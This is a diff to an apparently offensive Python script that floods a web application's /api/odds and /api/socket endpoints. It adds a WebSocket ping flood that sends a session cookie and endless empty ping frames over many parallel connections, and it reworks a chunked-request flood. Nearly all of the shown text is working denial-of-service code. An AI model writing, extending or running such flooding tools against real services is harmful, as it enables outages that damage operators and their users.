@@ -153,16 +153,33 @@ async def flood_body(address: str) -> None:
         f"POST /api/odds HTTP/1.1\r\nHost: {address}\r\nOrigin: http://{address}\r\n"
         "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
     )
-    await _pour(address, head.encode() + b"1\r\n \r\n" * PARTS)
+    await _pour(address, head.encode(), b"1\r\n \r\n" * PARTS)
 
 
-async def _pour(address: str, data: bytes) -> None:
-    """Sends the data over all lines at once, each time until it is taken or the connection closed."""
+async def flood_socket(address: str, cookie: str) -> None:
+    """Opens sockets and sends empty pings, for ever."""
+    head = (
+        f"GET /api/socket HTTP/1.1\r\nHost: {address}\r\nOrigin: http://{address}\r\nCookie: {cookie}\r\n"
+        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Protocol: sabot.2\r\n"
+        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
+    )
+    ping = b"\x89\x80\x00\x00\x00\x00"
+    await _pour(address, head.encode(), ping * PARTS, answered=b"\r\n\r\n")
+
+
+async def _pour(address: str, head: bytes, data: bytes, *, answered: bytes = b"") -> None:
+    """Sends this over all lines at once, again and again, each time until it is taken or the connection closed.
+
+    The data follow the head, or where it is to be answered, the end of that answer.
+    """
 
     async def keep_on() -> None:
         while True:
-            with suppress(OSError):
-                _, writer = await dial(address, HERE)
+            with suppress(OSError, asyncio.IncompleteReadError):
+                reader, writer = await dial(address, HERE)
+                writer.write(head)
+                if answered:
+                    await reader.readuntil(answered)
                 writer.write(data)
                 await writer.drain()
                 writer.close()
@@ -181,6 +198,8 @@ def main(address: str, kind: str, cookie: str) -> None:
         asyncio.run(reconnect(address, cookie))
     elif kind == "chunks":
         asyncio.run(flood_body(address))
+    elif kind == "pings":
+        asyncio.run(flood_socket(address, cookie))
     else:
         asyncio.run(ask_on(address, kind, cookie))
 
